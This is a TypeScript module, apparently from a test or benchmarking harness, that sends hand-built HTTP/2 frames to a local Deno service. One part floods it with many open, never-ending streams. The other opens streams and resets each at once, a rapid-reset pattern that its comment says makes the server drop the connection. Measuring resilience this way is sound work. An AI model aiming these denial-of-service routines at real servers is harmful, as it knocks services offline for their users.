/**
 * HTTP/2 connections with as many streams as the server allows, each with as much of a body as its
 * windows take and no end; a stream that is over makes room for the next.
 *
 * @module
 */

import {
  ACK,
  END_HEADERS,
  FRAME,
  frame,
  frameReader,
  PREFACE,
  requestHeaders,
} from "./http2_frames.ts";
import type { Cost, LoadedService } from "./service.ts";

/** What each stream requests. */
export interface StreamTarget {
  readonly method: string;
  readonly path: string;
  /** Whether it has a Host field beside `:authority`. */
  readonly host: boolean;
}

const MAX_STREAMS = 100;
const CHUNK = new Uint8Array(16_384);

/** Makes the load. */
export async function loadManyStreams(
  service: LoadedService,
  target: StreamTarget,
  load: { readonly connections: number; readonly workMs: number },
): Promise<Cost> {
  return await service.measure(async () => {
    const end = AbortSignal.timeout(load.workMs);
    await Promise.all(
      Array.from({ length: load.connections }, () => attack(service.port, target, end)),
    );
  });
}

/** Opens streams on one connection, and resets each at once: Deno then gives up the connection. */
export async function resetStreams(port: number, count: number): Promise<void> {
  using connection = await Deno.connect({ hostname: "127.0.0.1", port });
  const headers = requestHeaders({
    ":method": "PUT",
    ":scheme": "http",
    ":authority": "127.0.0.1",
    ":path": "/",
  });
  const CANCEL = new Uint8Array([0, 0, 0, 8]);
  const streams = Array.from({ length: count }, (_, number) => 2 * number + 1);
  const written = write(connection, [
    PREFACE,
    frame(FRAME.settings, 0, 0),
    ...streams.flatMap((stream) => [
      frame(FRAME.headers, END_HEADERS, stream, headers),
      frame(FRAME.reset, 0, stream, CANCEL),
    ]),
  ]);
  // The server may cut the connection first.
  await written.catch(() => {});
  const buffer = new Uint8Array(65_536);
  while (await connection.read(buffer).catch(() => null) !== null);
}

// Connects again when the server has closed the connection.
async function attack(port: number, target: StreamTarget, end: AbortSignal): Promise<void> {
  while (!end.aborted) {
    try {
      using connection = await Deno.connect({ hostname: "127.0.0.1", port });
      await converse(connection, target, end);
    } catch {
      // Cut by the server, or refused.
    }
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function converse(
  connection: Deno.TcpConn,
  { method, path, host }: StreamTarget,
  end: AbortSignal,
): Promise<void> {
  const close = () => {
    try {
      connection.close();
    } catch {
      // It is closed already.
    }
  };
  end.addEventListener("abort", close, { once: true });
  const headers = requestHeaders({
    ":method": method,
    ":scheme": "http",
    ":authority": "127.0.0.1",
    ":path": path,
    ...(host ? { host: "127.0.0.1" } : {}),
  });
  const windows = new Map<number, number>();
  let connectionWindow = 65_535;
  let streamWindow = 65_535;
  let next = 1;
  const read = frameReader();
  try {
    await write(connection, [PREFACE, frame(FRAME.settings, 0, 0)]);
    const buffer = new Uint8Array(65_536);
    while (!end.aborted) {
      const out: Uint8Array[] = [];
      while (windows.size < MAX_STREAMS) {
        out.push(frame(FRAME.headers, END_HEADERS, next, headers));
        windows.set(next, streamWindow);
        next += 2;
      }
      for (const [stream, window] of windows) {
        const size = Math.min(CHUNK.length, window, connectionWindow);
        if (size <= 0) continue;
        out.push(frame(FRAME.data, 0, stream, CHUNK.subarray(0, size)));
        windows.set(stream, window - size);
        connectionWindow -= size;
      }
      await write(connection, out);
      const count = await connection.read(buffer);
      if (count === null) return;
      for (const { type, flags, stream, payload } of read(buffer.slice(0, count))) {
        const view = new DataView(payload.buffer);
        if (type === FRAME.settings && !(flags & ACK)) {
          for (let at = 0; at + 6 <= payload.length; at += 6) {
            if (view.getUint16(at) === 4) streamWindow = view.getUint32(at + 2);
          }
          await write(connection, [frame(FRAME.settings, ACK, 0)]);
        } else if (type === FRAME.ping && !(flags & ACK)) {
          await write(connection, [frame(FRAME.ping, ACK, 0, payload)]);
        } else if (type === FRAME.window) {
          const more = view.getUint32(0);
          if (stream === 0) connectionWindow += more;
          else if (windows.has(stream)) windows.set(stream, (windows.get(stream) ?? 0) + more);
        } else if (type === FRAME.reset || (type <= FRAME.headers && flags & 1)) {
          windows.delete(stream);
        } else if (type === FRAME.goAway) return;
      }
    }
  } finally {
    end.removeEventListener("abort", close);
  }
}

async function write(connection: Deno.TcpConn, parts: readonly Uint8Array[]): Promise<void> {
  for (const part of parts) {
    for (let rest = part; rest.length > 0;) rest = rest.subarray(await connection.write(rest));
  }
}
